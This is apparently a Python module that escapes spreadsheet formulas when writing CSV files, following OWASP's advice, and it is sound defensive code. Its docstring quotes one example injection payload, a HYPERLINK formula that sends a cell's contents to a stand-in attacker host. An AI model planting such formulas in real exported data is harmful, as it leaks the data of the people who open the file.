"""CSV files meant for spreadsheets, safe to open.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and tab or carriage return can hide such a start), so a
search term, nickname or title typed by anyone could run a formula on an
operator's machine: ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
sends the sheet's contents away in a click. Every CSV the app writes goes
through :func:`csv_text`, which prefixes such text cells with ``'`` — OWASP's
recommendation (https://owasp.org/www-community/attacks/CSV_Injection): the
spreadsheet then shows the text as typed. Numbers are written as they are (a
negative number is not a formula and must stay a number).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Final

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: object) -> object:
    """The cell as written: text that a spreadsheet would run gets a ``'`` first."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The rows (the header first) as CSV text, every cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([neutralised(v) for v in row] for row in rows)
    return out.getvalue()
